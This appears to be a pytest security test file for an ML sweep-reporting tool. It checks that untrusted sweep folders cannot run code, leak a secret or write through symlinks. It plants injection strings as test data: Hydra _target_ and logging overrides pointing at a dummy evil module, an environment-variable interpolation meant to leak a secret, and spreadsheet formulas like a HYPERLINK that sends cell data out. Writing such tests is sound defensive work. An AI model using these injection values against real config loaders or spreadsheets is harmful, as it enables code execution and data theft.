"""A sweep's folder that others may have made: nothing of it is executed, and nothing is written out of it."""

import csv
import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from gradexp import run
from gradexp.sweeps.report.write_report import write_report
from tests.command_line import call
from tests.sweeps.folders import grid, write_curve, write_sweep

SECRET = "hunter2"


@pytest.mark.parametrize("place", ["command", "jobs", "axes"])
def test_nothing_of_a_strangers_sweep_is_executed_as_it_is_resumed(
    place: str, own_folder: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("GRADEXP_SECRET", SECRET)
    monkeypatch.syspath_prepend(str(own_folder))
    Path("evil.py").write_text("from pathlib import Path\nPath('executed').touch()\n")
    Path("conf.yaml").write_text("# @package _global_\nhydra: {callbacks: {x: {_target_: evil.Evil}}}\n")
    folder = write_sweep(own_folder / "sweep", grid(seed=[0, 1]), {0: {}, 1: {}})
    path = folder / "manifest.json"
    whole = json.loads(path.read_text())
    before = sorted(folder.rglob("*"))
    for line in (
        "hydra.job_logging={version:1,root:{handlers:[x]},handlers:{x:{'()':evil.Evil}}}",
        "hydra.callbacks.x._target_=evil.Evil",
        "+callbacks.x._target_=evil.Evil",
        "optimizer._target_=evil.Evil",
        "name=${oc.env:GRADEXP_SECRET}",
    ):
        content: dict[str, Any] = json.loads(json.dumps(whole))
        key, _, value = line.partition("=")
        if place == "jobs":
            for job in content["jobs"].values():
                job["overrides"].append(line)
        else:
            content["command"] = [line if place == "command" else f"+sweep.axes={{'{key}':['{value}',x]}}"]
        path.write_text(json.dumps(content))
        message = str(call(monkeypatch, "-m", "sweep.resume=sweep"))
        assert message.startswith("error: "), line
        assert SECRET not in message + "".join(capfd.readouterr()), line
        assert not Path("executed").exists(), line
    assert sorted(folder.rglob("*")) == before
    assert not [path for path in Path().rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()]


def test_nothing_that_a_record_names_is_imported_by_a_report(own_folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A failed job has a row in TensorBoard, with the default rate of its optimizer where that is known."""
    monkeypatch.setenv("GRADEXP_SECRET", SECRET)
    monkeypatch.syspath_prepend(str(own_folder))
    Path("evil.py").write_text("from pathlib import Path\nPath('executed').touch()\n")
    folder = write_sweep(own_folder / "sweep", grid(seed=[0, 1]), {0: {"status": "failed", "reason": "x"}})
    path = folder / "0/.hydra/config.yaml"
    record = path.read_text().replace("_target_: torch.optim.Adam", "_target_: evil.Evil")
    record = record.replace("  lr: 0.001\n", "").replace("name: default", "name: ${oc.env:GRADEXP_SECRET}")
    assert "evil.Evil" in record
    assert "oc.env" in record
    assert "lr:" not in record.partition("optimizer:")[2].partition("\nregularizer")[0]
    path.write_text(record.replace("trusted_packages:\n- gradexp", "trusted_packages:\n- gradexp\n- evil"))
    write_report(folder, Console(quiet=True))
    assert not Path("executed").exists()
    assert list((folder / "0/tensorboard").glob("seed-0/*.report"))
    assert not [path for path in folder.rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()]
    assert "${oc.env:GRADEXP_SECRET}" in (folder / "sweep.csv").read_text()


LINKS = ("0", "tensorboard", "figures", "gradexp.log", "1/tensorboard", "0/.hydra", "1/metrics.json")


@pytest.mark.parametrize("link", LINKS)
def test_a_report_writes_and_deletes_nothing_through_a_link(
    link: str, own_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = write_sweep(own_folder / "sweep", grid(seed=[0, 1]), {0: {"status": "failed", "reason": "x"}})
    write_curve(folder / "1", "val/accuracy", [0.1, 0.5])
    outside = own_folder / "outside"
    if (folder / link).exists():
        shutil.move(folder / link, outside)
    elif link == "gradexp.log":
        outside.touch()
    else:
        outside.mkdir()
    if outside.is_dir():
        (outside / "mine.report").touch()
    (folder / link).symlink_to("../" * (link.count("/") + 1) + "outside")
    before = {path: path.stat().st_mtime_ns for path in (outside, *outside.rglob("*"))}
    for arguments in (
        ("task=report", "sweep_dir=sweep"),
        ("-m", "sweep.resume=sweep"),
        ("-m", "hydra.sweep.dir=sweep"),
    ):
        message = str(call(monkeypatch, *arguments))
        assert message.startswith("error: sweep must be a folder whose links stay in it"), (message, arguments)
        assert f"sweep/{link} is a link to " in message
    with pytest.raises(ValueError, match="is a link to"):
        run("task=report", "sweep_dir=sweep")
    assert {path: path.stat().st_mtime_ns for path in (outside, *outside.rglob("*"))} == before
    assert os.path.lexists(folder / link)


def test_a_sweep_in_a_folder_that_is_itself_a_link_has_a_report(
    own_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_sweep(own_folder / "disk/sweep", grid(seed=[0, 1]))
    Path("outputs").symlink_to("disk")
    assert call(monkeypatch, "task=report", "sweep_dir=outputs/sweep") is None
    assert Path("disk/sweep/report.html").is_file()


CUT: dict[str, tuple[str, str, str]] = {
    # The file, its content ("" to cut it in half), and the beginning of the message.
    "cut manifest": ("manifest.json", "", "sweep/manifest.json must be a manifest that a sweep wrote; it"),
    "cut record": ("0/.hydra/config.yaml", "a: [1", "sweep/0/.hydra/config.yaml must be the configuration that a run"),
    "record of text": ("0/.hydra/config.yaml", "text", "sweep/0/.hydra/config.yaml must be"),
    "record of little": ("0/.hydra/config.yaml", "seed: 3", "sweep/0/.hydra/config.yaml must be"),
    "record of lists": ("0/.hydra/config.yaml", "data: [1]", "sweep/0/.hydra/config.yaml must be"),
    "monitor of keys": ("0/.hydra/config.yaml", "monitor: {a: b}", "sweep/0/.hydra/config.yaml must be"),
    "seed of text": ("0/.hydra/config.yaml", "seed: .nan", "sweep/0/.hydra/config.yaml must be"),
    "record of numbers": ("0/.hydra/config.yaml", "regularizer: {l1: x, l2: []}", "sweep/0/.hydra/config.yaml must be"),
    "cut metrics": ("0/metrics.json", "", "sweep/0/metrics.json must be the record that a run writes when it ends; it"),
    "no status": ("0/metrics.json", '{"seed": 1}', "sweep/0/metrics.json must be the record that a run writes when it"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content", "words"), CUT.values(), ids=CUT)
def test_a_damaged_file_gets_one_message_with_its_path(
    name: str, content: str, words: str, own_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = write_sweep(own_folder / "sweep", grid(optimizer__lr=[0.1, 0.01]))
    text = (folder / name).read_text()
    (folder / name).write_text(content or text[: len(text) // 2])
    message = str(call(monkeypatch, "task=report", "sweep_dir=sweep"))
    assert message.startswith(f"error: {words}")
    assert "\n" not in message


def test_a_record_of_a_failed_job_with_wrong_numbers_is_named(
    own_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = write_sweep(own_folder / "sweep", grid(seed=[0, 1]), {0: {"status": "failed", "reason": "x"}})
    path = folder / "0/.hydra/config.yaml"
    path.write_text(path.read_text().replace("  l1: 0.0\n", "  l1: x\n"))
    message = str(call(monkeypatch, "task=report", "sweep_dir=sweep"))
    assert message.startswith("error: sweep_dir must be a sweep whose records are whole; sweep is none (ValueError: ")
    assert "sweep/0/.hydra/config.yaml" in message


RECORDS = {"metrics.json": "{}", ".hydra/config.yaml": "task: !!binary aGk=", ".hydra/overrides.yaml": "{a: b}"}


@pytest.mark.parametrize("name", ["metrics.json/", *RECORDS])
def test_a_sweep_with_a_damaged_record_is_not_resumed_and_stays_as_it_was(
    name: str, own_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Job 0 is not done, and would run before the record of job 1 is read."""
    folder = own_folder / "sweep"
    jobs = ("seed=0,1", "trainer.max_epochs=1", "model.hidden=[2]", "progress=false", "~hydra.callbacks.write_report")
    assert call(monkeypatch, "-m", *jobs, "data=blobs", "data.num_samples=40", f"hydra.sweep.dir={folder}") is None
    (folder / "0/metrics.json").unlink()
    path = folder / "1" / name
    path.unlink()
    if name.endswith("/"):
        path.mkdir()
    else:
        path.write_text(RECORDS[name])
    before = {path: path.stat().st_mtime_ns for path in folder.rglob("*") if path.is_file() and path.name != ".lock"}
    message = str(call(monkeypatch, "-m", "sweep.resume=sweep", "~hydra.callbacks.write_report"))
    assert message.startswith(f"error: sweep/1/{name.strip('/')} must be ")
    after = {path: path.stat().st_mtime_ns for path in folder.rglob("*") if path.is_file() and path.name != ".lock"}
    assert after == before


@pytest.mark.parametrize(
    ("metrics", "words"),
    [
        ('{"status": "completed"', "run/metrics.json must be the record that a run writes when it ends; it cannot"),
        ('{"status": "done"}', "run/metrics.json must be the record that a run writes when it ends; its status"),
        ('{"status": "completed", "never_predicted": "a"}', "sweep_dir must be a run whose records are whole; run is"),
        ('{"status": "completed"}', "sweep_dir must be a multirun, or a run that completed its training with scores"),
    ],
)  # fmt: skip
def test_a_damaged_record_of_a_run_gets_one_message(
    metrics: str, words: str, own_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (own_folder / "run/.hydra").mkdir(parents=True)
    Path("run/.hydra/config.yaml").write_text("seed: 0\n")
    Path("run/metrics.json").write_text(metrics)
    assert str(call(monkeypatch, "task=report", "sweep_dir=run")).startswith(f"error: {words}")


def test_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not(own_folder: Path) -> None:
    evil: dict[str, Any] = {
        "status": "failed",
        "reason": '=HYPERLINK("http://x?"&A1)',
        "=1+1": 3,
        "val/loss": -1.5,
        "data": "@SUM(A1)",
    }
    folder = write_sweep(own_folder / "sweep", grid(seed=[-3, 1], trainer__precision=["+1", "-2+3"]), {0: evil})
    write_report(folder, Console(quiet=True))
    with (folder / "sweep.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert (rows[0]["reason"], rows[0]["data"]) == ("'" + evil["reason"], "'@SUM(A1)")
    assert rows[0]["'=1+1"] == "3"
    assert (rows[0]["val/loss"], rows[0]["seed"]) == ("-1.5", "-3")
    assert (rows[0]["trainer.precision"], rows[1]["trainer.precision"]) == ("'+1", "'-2+3")
    assert rows[0]["optimizer.betas"] == "[0.9, 0.999]"
    for row in rows:
        for name, cell in row.items():
            is_number = cell.lstrip("-").replace(".", "").isdigit()
            assert is_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_square_brackets_and_markup_are_shown_as_they_are(own_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    label = "<a href='http://x'>[red]b[/]</a>"
    folder = write_sweep(own_folder / "sweep", grid(data__path=[label], optimizer__lr=[0.1, 0.01], seed=[0, 1]))
    write_report(folder, Console(width=300))
    assert "[red]b[/]" in capsys.readouterr().out
    page = (folder / "report.html").read_text()
    figures = json.loads(page.partition('id="figure-data">')[2].partition("</script>")[0])
    texts = [text for text in _texts(figures) if "[red]" in text]
    assert texts
    assert all("<" not in text and "&lt;a href=" in text for text in texts)


def _texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for item in value.values() for text in _texts(item)]
    if isinstance(value, list):
        return [text for item in value for text in _texts(item)]
    return [value] if isinstance(value, str) else []
